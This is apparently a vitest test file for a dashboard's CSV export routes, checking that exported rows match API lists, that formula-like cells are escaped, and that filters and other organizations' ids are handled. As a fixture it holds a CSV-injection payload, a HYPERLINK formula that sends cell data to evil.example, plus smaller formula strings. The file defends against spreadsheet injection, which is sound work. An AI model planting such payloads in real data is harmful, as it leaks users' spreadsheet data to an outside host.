import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import type supertest from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { exportPath } from '../../src/dashboard/exports.routes.js';
import { type Agent, dashboardAgent } from '../support/dashboard.js';
import {
  type ApiObject,
  createCustomer,
  createPartner,
  createProgram,
  createTransaction,
  type TestOrg,
  uniqueEmail,
} from '../support/factories.js';
import { COMMISSION_SHORT_FIELDS, CUSTOMER_FIELDS, PARTNER_FIELDS, TRANSACTION_FIELDS } from '../support/fields.js';
import { useTestApp } from '../support/fixture.js';

/**
 * The dashboard's CSV exports (src/dashboard/exports.routes.ts, src/pages/csv.ts;
 * ingest/docs/dashboard.md#csv-exports): for each list, the file's rows, parsed back with a CSV
 * parser, are the API's list for the same filters, cell for cell; formulas are escaped and
 * numbers are not; bad filters and another organization's ids change nothing. 10,000 rows and
 * backpressure: exports.large.test.ts.
 */

type ListName = 'partners' | 'customers' | 'transactions' | 'commissions' | 'payouts';

/** A response body as text, whatever its content type. */
const asText = (r: supertest.Test) =>
  r.buffer(true).parse((res, done) => {
    let text = '';
    res.setEncoding('utf8');
    res.on('data', (c: string) => {
      text += c;
    });
    res.on('end', () => done(null, text));
  });

/**
 * What the file holds for an API value: text as it is, but `'` before one a spreadsheet would read
 * as a formula (OWASP: `=`, `+`, `-`, `@`, tab, carriage return); numbers and booleans as the API
 * writes them, objects as JSON, null as an empty cell.
 */
function cellOf(value: unknown): string {
  if (value === null) return '';
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  if (typeof value === 'object') return JSON.stringify(value);
  const text = String(value);
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

describe('dashboard CSV exports', () => {
  const {
    t,
    orgs: [org, other],
  } = useTestApp({ orgs: 2 });
  let agent: Agent;
  let program: ApiObject;
  let hyperlink: ApiObject;
  let plain: ApiObject;
  let otherPartner: ApiObject;

  /** GET /v1/<list> with these filters, every page, in the list's order: the rows the file must hold. */
  async function apiList(list: ListName, filters: Record<string, string>, who: TestOrg = org): Promise<ApiObject[]> {
    const rows: ApiObject[] = [];
    for (let after: string | undefined; ; ) {
      const res = await t.request
        .get(`/v1/${list}`)
        .set(who.auth)
        .query({ program_id: program.id, ...filters, limit: 100, ...(after ? { starting_after: after } : {}) });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      // The customer list nests its rows one level deeper (the Partnership Program API's shape).
      const page: ApiObject[] = list === 'customers' ? res.body.data.data : res.body.data;
      rows.push(...page);
      if (!res.body.has_more) return rows;
      after = page[page.length - 1].id;
    }
  }

  /** The export of `list` with these filters: its response and its records (the header first), parsed by csv-parse. */
  async function exported(list: ListName, filters: Record<string, string> = {}, programId = program.id) {
    const res = await asText(agent.get(exportPath({ id: programId }, list, new URLSearchParams(filters).toString())));
    const records: string[][] = res.status === 200 ? parse(res.body as string, { bom: true }) : [];
    return { res, text: res.body as string, header: records[0], rows: records.slice(1) };
  }

  beforeAll(async () => {
    ({ agent } = await dashboardAgent(t, org));
    program = await createProgram(t, org, { currency_code: 'USD', minimum_payout: 100 });
    // Each its own PayPal account: two partners paid into one would be held for review (ingest/docs/risk.md).
    const paypal = () => ({ payout_method: 'paypal', payout_details: { email: uniqueEmail('paypal') } });
    hyperlink = await createPartner(t, org, {
      program_id: program.id,
      first_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      last_name: '@SUM(1+1)',
      company_name: '+1 555 0100',
      internal_note: '-2+3',
      status: 'active',
      ...paypal(),
    });
    plain = await createPartner(t, org, { program_id: program.id, first_name: 'Zoë', last_name: 'Quote "Q", Comma', ...paypal() });
    // The API trims names; text may still reach SQL with a leading tab or carriage return (from Stripe, an import).
    const pending = await createPartner(t, org, { program_id: program.id, first_name: 'Tab', last_name: 'Lead', status: 'pending' });
    await sql`update partners set last_name = ${'\tlead'}, company_name = ${'\rreturn'} where id = ${pending.id}`.execute(t.storage.db);
    // Payments earn 20 % (the program's default flow, pending); a partial refund adds a negative refund entry.
    for (const partner of [hyperlink, plain]) {
      const customer = await createCustomer(t, org, partner, { name: '=1+2' });
      const paid = await createTransaction(t, org, customer, { amount: 4900, product_name: '-minus' });
      await createTransaction(t, org, customer, { amount: 1500 });
      const refund = await t.request.put(`/v1/transactions/${paid.id}/refund`).set(org.auth).send({ amount: 1000 });
      expect(refund.status, JSON.stringify(refund.body)).toBe(200);
    }
    for (const partner of [hyperlink, plain]) {
      const res = await t.request
        .post('/v1/commissions')
        .set(org.auth)
        .send({ program_id: program.id, partner_id: partner.id, amount: 2500, status: 'approved' });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const generated = await t.request.post('/v1/payouts/generate').set(org.auth).send({ program_id: program.id });
    expect(generated.status, JSON.stringify(generated.body)).toBe(201);
    expect(generated.body.data.payouts).toHaveLength(2);
    otherPartner = await createPartner(t, other, { program_id: other.program_id });
  });

  /** The field sets of the Partnership Program API (payouts are svc's own: their keys are the API's answer's). */
  const FIELDS: Partial<Record<ListName, readonly string[]>> = {
    partners: PARTNER_FIELDS,
    customers: CUSTOMER_FIELDS,
    transactions: TRANSACTION_FIELDS,
    commissions: COMMISSION_SHORT_FIELDS,
  };

  /** Each list, unfiltered and with filters of its API list (the partner ids are filled in once they exist). */
  const CASES: [ListName, string, () => Record<string, string>][] = [
    ['partners', 'no filter', () => ({})],
    ['partners', 'status and search', () => ({ status: 'active', search: 'hyperlink' })],
    ['customers', 'a partner', () => ({ partner_id: plain.id })],
    ['customers', 'oldest first', () => ({ order: 'asc' })],
    ['transactions', 'a partner', () => ({ partner_id: hyperlink.id })],
    ['transactions', 'oldest first, from a date', () => ({ order: 'asc', created_gte: '2000-01-01T00:00:00Z' })],
    ['commissions', 'no filter', () => ({})],
    ['commissions', 'status and partner', () => ({ status: 'approved', partner_id: plain.id })],
    ['payouts', 'a status', () => ({ status: 'pending' })],
  ];

  it.each(CASES)("%s.csv with %s holds the rows of the API's list with the same filters", async (list, _filtered, filtersOf) => {
    const filters = filtersOf();
    const [api, file] = await Promise.all([apiList(list, filters), exported(list, filters)]);
    expect(file.res.status, file.text).toBe(200);
    expect(api.length).toBeGreaterThan(0);
    // The columns are the list's fields, named as the API names them, and nothing more.
    expect(file.header).toEqual(Object.keys(api[0]));
    if (FIELDS[list]) expect([...file.header].sort()).toEqual([...FIELDS[list]].sort());
    expect(file.rows).toEqual(api.map((row) => file.header.map((field) => cellOf(row[field]))));
  });

  it('is an attachment with a safe name, never cached, in UTF-8 with a byte order mark and CRLF rows', async () => {
    const { res, text } = await exported('partners');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=partners-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(text.startsWith('\ufeffid,status,first_name,')).toBe(true);
    expect(text).toContain('\r\n');
    expect(text).toContain('Zoë');
  });

  it('escapes formulas in text cells, and writes numbers, negative ones too, as numbers', async () => {
    const partners = await exported('partners', { status: 'active' });
    const row = partners.rows.find((r) => r[0] === hyperlink.id)!;
    const cell = (field: string) => row[partners.header.indexOf(field)];
    expect(cell('first_name')).toBe(`'${hyperlink.first_name}`);
    expect(cell('last_name')).toBe("'@SUM(1+1)");
    expect(cell('company_name')).toBe("'+1 555 0100");
    expect(cell('internal_note')).toBe("'-2+3");
    expect(partners.text).not.toMatch(/(^|,|")=HYPERLINK/m);
    const pending = await exported('partners', { status: 'pending' });
    expect(pending.rows[0][pending.header.indexOf('last_name')]).toBe("'\tlead");
    expect(pending.rows[0][pending.header.indexOf('company_name')]).toBe("'\rreturn");

    const commissions = await exported('commissions');
    const amounts = commissions.rows.map((r) => r[commissions.header.indexOf('amount')]);
    expect(amounts).toContain('-200');
    expect(amounts.every((a) => /^-?\d+$/.test(a))).toBe(true);
    const customers = await exported('customers');
    expect(customers.rows.map((r) => r[customers.header.indexOf('name')])).toEqual(["'=1+2", "'=1+2"]);
  });

  it("answers 404 for another organization's program, and an empty file or a 404 for its ids, as the API does", async () => {
    const { res } = await exported('partners', {}, other.program_id);
    expect(res.status).toBe(404);
    expect(res.headers['content-type']).toMatch(/^text\/html/);

    // Another organization's partner as a filter: no row of it, exactly as GET /v1/commissions answers.
    const commissions = await exported('commissions', { partner_id: otherPartner.id });
    expect(commissions.res.status).toBe(200);
    expect([...commissions.header].sort()).toEqual([...COMMISSION_SHORT_FIELDS].sort());
    expect(commissions.rows).toEqual([]);
    expect(await apiList('commissions', { partner_id: otherPartner.id })).toEqual([]);
    // The payout list checks its partner: 404, as the API's list does.
    expect((await exported('payouts', { partner_id: otherPartner.id })).res.status).toBe(404);
    const api = await t.request.get('/v1/payouts').set(org.auth).query({ program_id: program.id, partner_id: otherPartner.id });
    expect(api.status).toBe(404);
  });

  it.each([
    ['an unknown status', 'partners', { status: 'bogus' }, /Invalid status/],
    ['an unknown parameter', 'transactions', { colour: 'red' }, /Unknown query parameter: colour/],
    ['a page size', 'customers', { limit: '5' }, /does not take limit/],
    ['a cursor', 'commissions', { starting_after: 'comm_x' }, /does not take starting_after/],
    ['another program', 'payouts', { program_id: 'prog_x' }, /does not take program_id/],
    ['an expansion', 'partners', { expand: 'group' }, /does not take expand/],
    ['a malformed date', 'transactions', { created_gte: 'yesterday' }, /Invalid created_gte/],
  ] as const)('refuses %s with a 400 page', async (_what, list, filters, message) => {
    const { res, text } = await exported(list, filters);
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^text\/html/);
    expect(text).toMatch(message);
  });

  it('takes empty filter fields as filters left out, as the list pages do', async () => {
    const [all, blank] = await Promise.all([exported('partners'), exported('partners', { status: '', search: '' })]);
    expect(blank.res.status).toBe(200);
    expect(blank.rows).toEqual(all.rows);
  });

  it('is for signed-in users only', async () => {
    const res = await t.request.get(exportPath({ id: program.id }, 'partners'));
    expect(res.status).toBe(303);
    expect(res.headers.location).toMatch(/^\/dashboard\/sign-in/);
  });
});
